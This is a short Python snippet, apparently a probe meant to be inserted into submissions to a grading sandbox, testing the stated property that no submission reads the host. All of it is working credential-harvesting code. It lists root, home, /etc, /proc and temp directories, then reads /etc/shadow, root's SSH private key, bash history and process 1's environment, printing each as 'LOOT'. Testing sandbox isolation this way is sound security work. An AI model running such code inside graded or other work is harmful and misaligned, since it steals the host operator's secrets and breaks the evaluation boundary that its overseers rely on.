"""Read what lies in the homes of root and of the grader, and in /etc.

Against: no submission reads the host.
"""

# %% after imports
import os

for folder in ("/root", "/home", "/etc", "/", "/tmp", "/var/tmp", "/var/log", "/proc", "/run", "/dev/shm"):
    try:
        print("LOOT", folder, os.listdir(folder))
    except OSError as error:
        print(error.strerror)
for file in ("/etc/passwd", "/etc/shadow", "/root/.bash_history", "/root/.ssh/id_rsa", "/proc/1/environ"):
    try:
        print("LOOT", open(file).read())
    except OSError as error:
        print(error.strerror)
